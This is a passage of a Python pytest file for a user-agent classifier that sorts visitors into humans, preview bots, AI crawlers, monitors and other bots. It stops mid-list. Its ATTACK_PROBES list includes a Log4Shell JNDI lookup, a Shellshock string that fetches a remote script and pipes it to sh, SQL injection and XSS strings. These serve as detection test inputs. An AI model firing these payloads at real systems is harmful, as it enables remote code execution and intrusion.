from __future__ import annotations

import json
from pathlib import Path

import pytest
from crawlerdetect import CrawlerDetect

from launchlink.kit.useragent import (
    MAX_USER_AGENT_LENGTH,
    VisitorAgent,
    classify,
    classify_cache_info,
)

DATA = Path(__file__).resolve().parent.parent / "data"
CRAWLER_LIST = json.loads((DATA / "crawler-user-agents.json").read_text("utf-8"))

# Entries of crawler-user-agents.json we deliberately classify as humans. Each maps the
# entry's pattern to the reason.
ALLOWED_HUMANS = {
    # Listed as a scraper, but the pattern is an Android build id and its only instance is
    # an ordinary Instagram in-app browser on an OPPO phone: in-app fans are never bots.
    r"AP3A\.240617\.008": "real Instagram in-app browser",
}

# (user agent, device, in_app) — real-world shapes of fans' browsers.
HUMANS: list[tuple[str, str, str | None]] = [
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "ios",
        None,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "ios",
        None,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/16.6 Mobile/15E148 Safari/604.1",
        "ios",
        None,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
        "ios",
        None,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) GSA/321.0.648017773 Mobile/15E148 Safari/604.1",
        "ios",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Mobile Safari/537.36",
        "android",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.6422.165 Mobile Safari/537.36",
        "android",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) AppleWebKit/537.36 (KHTML, like "
        "Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "android",
        None,
    ),
    ("Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0", "android", None),
    (
        # CUBOT is a phone brand; "bot" inside it must not make its owners robots.
        "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Mobile Safari/537.36",
        "android",
        None,
    ),
    ("Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15", "other", None),
    (
        "Mozilla/5.0 (Linux; U; Android 11; TECNO KG5k Build/RP1A.200720.011; wv) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.127 Mobile "
        "Safari/537.36 OPR/64.0.2254.62069",
        "android",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; U; Android 13; en-us; 2201117TY Build/TKQ1.221114.001) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile "
        "Safari/537.36 XiaoMi/MiuiBrowser/14.7.1-gn",
        "android",
        None,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Instagram 337.0.3.23.54 (iPhone15,3; iOS 17_5; en_US; en; "
        "scale=3.00; 1290x2796; 614123456)",
        "ios",
        "instagram",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Instagram 302.0.0.23.114 (iPhone13,2; iOS 16_6; fr_FR; fr; "
        "scale=3.00; 1170x2532; 518425678) NW/3",
        "ios",
        "instagram",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-G991B Build/TP1A.220624.014; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 Instagram "
        "337.0.0.35.102 Android (33/13; 420dpi; 1080x2177; samsung; SM-G991B; o1s; exynos2100; "
        "en_GB; 614234567)",
        "android",
        "instagram",
    ),
    (
        "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram "
        "406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; "
        "en_MY; 822918295; IABMV/1) NV/1",
        "android",
        "instagram",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 musical_ly_34.1.0 JsSdk/2.0 NetType/WIFI Channel/App Store "
        "ByteLocale/en Region/US ByteFullLocale/en-US isDarkMode/0 WKWebView/1 "
        "RevealType/Dialog BytedanceWebview/d8a21c6",
        "ios",
        "tiktok",
    ),
    (
        "Mozilla/5.0 (Linux; Android 12; SM-A325F Build/SP1A.210812.016; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 trill_330204 "
        "JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/trill app_version/33.2.4 "
        "ByteLocale/en ByteFullLocale/en Region/ID Spark/1.4.6.3-bugfix AppVersion/33.2.4 "
        "BytedanceWebview/d8a21c6",
        "android",
        "tiktok",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 "
        "musical_ly_2023101030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly "
        "app_version/31.1.3 ByteLocale/en ByteFullLocale/en Region/US",
        "android",
        "tiktok",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/469.0.0.45.107;FBBV/615123456;"
        "FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
        "ios",
        "facebook",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240605.024; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
        "[FB_IAB/FB4A;FBAV/471.0.0.35.80;]",
        "android",
        "facebook",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 [FBAN/MessengerForiOS;FBAV/458.0.0.36.108;FBBV/590123456;"
        "FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBCR/;FBID/phone;FBLC/en_US]",
        "ios",
        "messenger",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-A145R Build/TP1A.220624.014; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 "
        "[FB_IAB/Orca-Android;FBAV/459.0.0.13.109;]",
        "android",
        "messenger",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Snapchat/13.1.0.36 (like Safari/8618.2.12.10.9, panda)",
        "ios",
        "snapchat",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S911B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 "
        "Snapchat/13.0.0.48 (SM-S911B; Android 14#S911BXXS3BXE4#34; gzip; )",
        "android",
        "snapchat",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; Pixel 6 Build/TQ3A.230805.001; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/115.0.5790.166 Mobile Safari/537.36 "
        "TwitterAndroid",
        "android",
        "twitter",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 [LinkedInApp]/9.29.9144",
        "ios",
        "linkedin",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Safari Line/14.9.0",
        "ios",
        "line",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI "
        "Language/zh_CN",
        "ios",
        "wechat",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 [Pinterest/iOS]",
        "ios",
        "pinterest",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
        "Telegram-Android/11.0.0 (Samsung SM-A546B; Android 14; SDK 34; AVERAGE)",
        "android",
        "telegram",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 7a Build/AP2A.240605.024; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 Barcelona "
        "337.0.0.35.102 Android (34/14; 420dpi; 1080x2400; Google/google; Pixel 7a; lynx; "
        "lynx; en_US; 614234567)",
        "android",
        "threads",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 KAKAOTALK 10.8.5",
        "ios",
        "kakaotalk",
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.5 Safari/605.1.15",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "desktop",
        None,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0",
        "desktop",
        None,
    ),
]

HUMANS += [
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S928B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 Line/14.8.1",
        "android",
        "line",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; 22081212UG Build/TKQ1.220829.002; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 "
        "MMWEBSDK/20231202 MMWEBID/2247 MicroMessenger/8.0.47.2560(0x28002F30) WeChat/arm64 "
        "Weixin NetType/WIFI Language/zh_CN ABI/arm64",
        "android",
        "wechat",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Twitter for iPhone/10.48",
        "ios",
        "twitter",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240605.024; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
        "[Pinterest/Android]",
        "android",
        "pinterest",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Telegram/10.13.1",
        "ios",
        "telegram",
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-A155F Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
        "[FB_IAB/FB4A;FBAV/470.0.0.43.108;] Instagram 338.0.0.24.102 Android (34/14; 450dpi; "
        "1080x2340; samsung; SM-A155F; a15; mt6789; en_GB; 618134567)",
        "android",
        "instagram",
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 Instagram 337.0.3.23.54 (iPad13,16; iPadOS 17_5; en_US; en; scale=2.00; "
        "1640x2360; 614123456)",
        "ios",
        "instagram",
    ),
]

# Fans whose user agents contain words that loose substring rules took for robots.
FANS_WITH_ROBOT_LOOKING_WORDS = [
    # "cron" in Cronet (Chrome's network stack in Android apps)
    "com.google.android.apps.searchlite/101032 (Linux; U; Android 8.1.0; ru_RU; M580; "
    "Build/O11019; Cronet/74.0.3729.182)",
    # phone models: Sonic, Bot, Spider, Butterfly
    "Mozilla/5.0 (Linux; Android 5.1; O+ Sonic) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/80.0.3987.162 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 7.0; C Bot Tab 100) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/74.0.3729.157 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, "
    "like Gecko) Chrome/31.0.1650.59 Mobile Safari/537.36",
    # "Demo"/"Demonstration" and a BOTECH vendor in a smart TV's HbbTV comment
    "Mozilla/5.0 (Linux; Andr0id 9; ATV R1) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/77.0.3865.120 Safari/537.36 OPR/46.0.2207.0 OMI/4.20.5.31.Oak.45 HbbTV/1.5.1 "
    "(+DRM;BOTECH;ATV R1;Demo 1.0;Demonstration only;TVs;) FVC/5.0 (BOTECH;ATV R1;)",
    # "Word/" in 1Password's web view, "Buddy" in an app name
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 1Password/8.10.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Mobile Safari/537.36 StudyBuddy/2.3",
    # a search engine's name inside a real browser's
    "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 "
    "SogouMSE,SogouMobileBrowser/6.1.5",
    # reverse-DNS app ids are no URLs
    "Mozilla/5.0 (Linux; Android 16; SC-51F Build/BP4A.251205.006; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/152.0.7977.88 Mobile Safari/537.36 YJApp-ANDROID "
    "jp.co.yahoo.android.yjtop/4.1.0",
]

PREVIEW_BOTS = [
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "facebookexternalhit/1.1 Facebot Twitterbot/1.0",  # iMessage
    "Mozilla/5.0 (compatible; Facebot/1.0; +https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.23.20.0 A",
    "TelegramBot (like TwitterBot)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 "
    "skype-url-preview@microsoft.com",
    "Pinterest/0.2 (+https://www.pinterest.com/bot.html)",
    "Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)",
    "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)",
    "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)",
    "Iframely/1.3.1 (+https://iframely.com/docs/about)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)",
    "Viber",
    "Mozilla/5.0 (compatible; SnapURLPreview/1.0; +https://www.snapchat.com)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)",
    "http.rb/5.1.1 (Mastodon/4.2.10; +https://mastodon.social/) Bot",
]

OTHER_BOTS = [
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
    "+https://openai.com/gptbot)",
]


@pytest.mark.parametrize(("user_agent", "device", "in_app"), HUMANS)
def test_real_browsers_are_humans_with_the_right_device_and_app(
    user_agent: str, device: str, in_app: str | None
) -> None:
    agent = classify(user_agent)
    assert (agent.device, agent.in_app, agent.is_bot, agent.is_preview_bot) == (
        device,
        in_app,
        False,
        False,
    )


def test_the_human_list_is_broad_enough() -> None:
    assert len(HUMANS) >= 30
    assert {in_app for _, _, in_app in HUMANS} >= {
        "instagram",
        "tiktok",
        "facebook",
        "messenger",
        "snapchat",
    }


@pytest.mark.parametrize("user_agent", PREVIEW_BOTS)
def test_link_preview_fetchers_get_the_card(user_agent: str) -> None:
    agent = classify(user_agent)
    assert agent.is_preview_bot
    assert agent.is_bot
    assert agent.in_app is None


@pytest.mark.parametrize("user_agent", OTHER_BOTS)
def test_scripts_and_crawlers_are_bots_but_not_preview_bots(user_agent: str) -> None:
    agent = classify(user_agent)
    assert agent.is_bot
    assert not agent.is_preview_bot


@pytest.mark.parametrize("user_agent", ["", "   ", None])
def test_a_missing_user_agent_is_a_bot(user_agent: str | None) -> None:
    agent = classify(user_agent)
    assert agent.is_bot
    assert agent.device == "other"


def _listed_instances() -> list[tuple[str, str]]:
    return [(entry["pattern"], ua) for entry in CRAWLER_LIST for ua in entry["instances"]]


def test_every_listed_crawler_instance_is_a_bot_except_the_documented_ones() -> None:
    misclassified = [
        (pattern, ua)
        for pattern, ua in _listed_instances()
        if not classify(ua).is_bot and pattern not in ALLOWED_HUMANS
    ]
    assert misclassified == []
    assert len(_listed_instances()) > 2000


def test_the_documented_exceptions_are_still_in_the_list_and_still_humans() -> None:
    listed = {pattern: ua for pattern, ua in _listed_instances()}
    for pattern in ALLOWED_HUMANS:
        assert pattern in listed
        assert not classify(listed[pattern]).is_bot


def test_a_robot_posing_as_an_in_app_browser_but_giving_its_url_is_a_bot() -> None:
    agent = classify(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, "
        "like Gecko) Mobile/11A465 Twitter for iPhone BrandVerity/1.0 "
        "(http://www.brandverity.com/why-is-brandverity-visiting-me)"
    )
    assert agent.is_bot
    assert agent.in_app is None


def test_every_crawler_crawlerdetect_knows_is_still_a_bot() -> None:
    # Our Rust-backed copy of crawlerdetect's patterns skips a few loose ones (documented in
    # _SKIPPED_CRAWLERDETECT_PATTERNS) and matches the rest at word boundaries; whatever
    # crawlerdetect flags among the listed crawlers must still be a bot.
    detector = CrawlerDetect()
    missed = [
        ua
        for pattern, ua in _listed_instances()
        if detector.is_crawler(ua) and not classify(ua).is_bot and pattern not in ALLOWED_HUMANS
    ]
    assert missed == []


def test_where_our_crawlerdetect_copy_differs_it_is_for_a_documented_pattern() -> None:
    from crawlerdetect.providers.crawlers import data as crawlerdetect_patterns

    from launchlink.kit.useragent import _SKIPPED_CRAWLERDETECT_PATTERNS

    assert set(_SKIPPED_CRAWLERDETECT_PATTERNS) <= set(crawlerdetect_patterns)
    assert all(reason for reason in _SKIPPED_CRAWLERDETECT_PATTERNS.values())


def test_browser_family_comes_from_ua_parser() -> None:
    assert classify(HUMANS[0][0]).browser_family == "Mobile Safari"
    windows_chrome = next(
        ua for ua, _, _ in HUMANS if ua.endswith("Chrome/126.0.0.0 Safari/537.36")
    )
    assert classify(windows_chrome).browser_family == "Chrome"


def test_answers_are_cached_and_frozen() -> None:
    user_agent = HUMANS[5][0] + " cache-probe"
    before = classify_cache_info().hits
    first = classify(user_agent)
    second = classify(user_agent)
    assert first is second
    assert classify_cache_info().hits == before + 1
    with pytest.raises(AttributeError):
        first.is_bot = True  # type: ignore[misc]


def test_huge_user_agents_are_truncated_before_matching() -> None:
    agent = classify(HUMANS[0][0] + " x" * 50_000)
    assert isinstance(agent, VisitorAgent)
    assert agent.device == "ios"
    assert len(HUMANS[0][0]) < MAX_USER_AGENT_LENGTH


@pytest.mark.parametrize("user_agent", FANS_WITH_ROBOT_LOOKING_WORDS)
def test_robot_looking_words_inside_other_words_or_phone_models_are_not_robots(
    user_agent: str,
) -> None:
    agent = classify(user_agent)
    assert not agent.is_bot, agent.reason
    assert agent.bot_class == "human"


AI_AGENTS = [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
    "+https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
    "+https://openai.com/bot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
    "+https://openai.com/searchbot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
    "+claudebot@anthropic.com)",
    "Claude-User/1.0",
    "Claude-SearchBot/1.0",
    "anthropic-ai",
    "cohere-ai",
    "cohere-training-data-crawler",
    "Mozilla/5.0 (compatible; Character-AI/1.0; +https://character.ai/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
    "+https://perplexity.ai/perplexitybot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
    "+https://perplexity.ai/perplexity-user)",
    "Google-Extended",
    "Applebot-Extended",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    "(compatible; Bytespider; spider-feedback@bytedance.com)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (compatible; Diffbot/0.1; +http://www.diffbot.com)",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "meta-externalads/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "meta-externalfetcher/1.1",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; "
    "+https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36",
    "Mozilla/5.0 (compatible; YouBot/1.0; +https://about.you.com/youbot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; "
    "+https://docs.mistral.ai/robots)",
    "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)",
]

MONITORS = [
    "Datadog Agent/7.54.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 DatadogSynthetics",
    "Blackbox Exporter/0.25.0",
    "Prometheus/2.53.0",
    "k6/0.51.0 (https://k6.io/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 StatusCake",
    "Amazon-Route53-Health-Check-Service (ref 5a0d2d2e-1234-4cde-9f00-6f1b2b3c4d5e; report "
    "http://amzn.to/1vsZADi)",
    "Site24x7",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 "
    "Safari/537.36 NewRelicSynthetics/1.0",
    "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
    "like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/"
    "124.0.0.0 Safari/537.36 Checkly/3a4b (https://www.checklyhq.com)",
    "Uptime-Kuma/1.23.13",
    "ELB-HealthChecker/2.0",
    "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)",
    "kube-probe/1.29",
]

# Nothing a browser sends: scripts, HTTP libraries, junk, attack probes.
NOT_BROWSER_SHAPED = [
    "node",
    "Chrome",
    "firefox",
    "Mozilla/5.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "curl/8.5.0",
    "Java/17.0.2",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Hello, world",
    "Mozilla/5.0 (compatible; CMSLookup/1.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/112.0.0.0 Safari/537.36 (scanner.ducks.party)",
]
ATTACK_PROBES = [
    "${jndi:ldap://${hostName}.useragent.example.oast.fun}",
    "() { :; }; /bin/bash -c 'curl http://198.51.100.7/x.sh | sh'",
    "Mozilla/5.0' OR '1'='1",
    "Mozilla/5.0 <script>alert(1)</script>",
    "1 UNION ALL SELECT NULL,NULL--",
]


@pytest.mark.parametrize("user_agent", AI_AGENTS)
def test_ai_crawlers_and_assistants_are_ai_agents(user_agent: str) -> None:
    agent = classify(user_agent)
    assert (agent.is_bot, agent.bot_class) == (True, "ai_agent"), agent.reason


@pytest.mark.parametrize("user_agent", MONITORS)
def test_uptime_and_synthetic_monitors_are_monitors(user_agent: str) -> None:
    agent = classify(user_agent)
    assert (agent.is_bot, agent.bot_class) == (True, "monitor"), agent.reason


@pytest.mark.parametrize("user_agent", NOT_BROWSER_SHAPED + ATTACK_PROBES)
def test_scripts_junk_and_probes_are_other_bots(user_agent: str) -> None:
    agent = classify(user_agent)
    assert (agent.is_bot, agent.bot_class, agent.is_preview_bot) == (True, "bot", False)
    assert agent.reason


@pytest.mark.parametrize("user_agent", ATTACK_PROBES)
def test_attack_probes_are_named_as_probes(user_agent: str) -> None:
    assert (classify(user_agent).reason or "").startswith("probe:")


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (compatible; FooResearchCrawler/0.3)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/140.0.0.0 Safari/537.36 AcmeSiteScanner/2.1",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/"
